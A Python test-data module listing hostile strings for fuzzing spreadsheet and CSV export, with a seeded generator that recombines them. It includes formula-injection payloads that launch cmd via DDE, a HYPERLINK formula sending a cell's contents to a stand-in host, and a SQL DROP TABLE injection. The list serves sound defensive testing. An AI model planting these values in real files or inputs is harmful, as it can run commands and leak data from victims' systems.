"""Texts that mean harm: what a spreadsheet would run, what breaks quotes, lines or markup, and what only looks empty."""

from __future__ import annotations

import random

STRINGS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠A1",
    "'=1", "''=1", "'",
    '=HYPERLINK("http://x/?"&A1,"ici")', "=DDE(\"cmd\";\"/C calc\";\"a\")", ' "=1', '"=1+1"', '";=1+1;"', ";=1", "a\r\n=1",
    "a\n=1;b", "a\n;;;;;;;;;;;;;;;;;;;;;;\nb", "a\n;;;;;;;;;;;\nb",
    "-5 000", "+223 70 12 34 56", "-1", "1e9", "0x41", "007", "12/03/1985", "_x0041_", "_x000D_", "a\rb", "\x00", "\x0b", "\x1f",
    "\x7f",
    "\ufffe", "\uffff", "\ufeff", "\u00a0", "\u202e=1", "\ufdd0", "𝒜", "é", "e\u0301", "<b>&amp;</b>", "<r>a & b</r>",
    "<r><t>x</t></r>", "]]>", "{{7*7}}", "%s%n",
    "'; DROP TABLE x; --", "NULL", "N/A", "TRUE", "#REF!", '"', '""', '"""', "\\", "\\x00", "|", "x" * 300,
)  # fmt: skip
"""Some that are known."""

_SIGNS = "=+-@＝＋－＠'\"\t\r\n;,| 0129.eEéx_#<>&\\\x00\x0b\x7f\u00a0\u202f\ufeff\ufdd0𝒜"
_STARTS = ("", "=", "+", "-", "@", "'", "\t", "\r", "\n", "＝", '"', " ", "\u00a0", "\ufeff")
_ENDS = ("", "1+1", "cmd|' /C calc'!A0", "SUM(A1)", ";1", '"', "\r\n", "A1", " 000")


def some(count: int, *, seed: int) -> list[str]:
    """Others, made of what the known ones are made of."""
    draw = random.Random(seed)
    middles = ("".join(draw.choices(_SIGNS, k=draw.randrange(9))) for _ in range(count))
    return [draw.choice(_STARTS) + middle + draw.choice(_ENDS) for middle in middles]
